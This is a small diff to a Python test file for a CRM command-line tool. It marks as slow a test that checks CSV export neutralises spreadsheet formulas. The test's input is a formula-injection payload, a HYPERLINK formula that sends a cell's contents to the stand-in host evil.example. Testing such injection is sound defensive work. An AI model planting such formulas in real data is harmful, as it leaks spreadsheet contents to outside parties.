@@ -196,6 +196,7 @@ def test_db_status_says_baseline_or_applied_once(crm_db: Database) -> None:
     assert "(applied)" not in text and "applied 000_original_schema" in text, text
 
 
+@pytest.mark.slow
 def test_cli_export_neutralises_formulas_unless_raw(crm_db: Database) -> None:
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert crm_db.cli("leads", "create", "--first-name", evil, "--source", "csv").returncode == 0
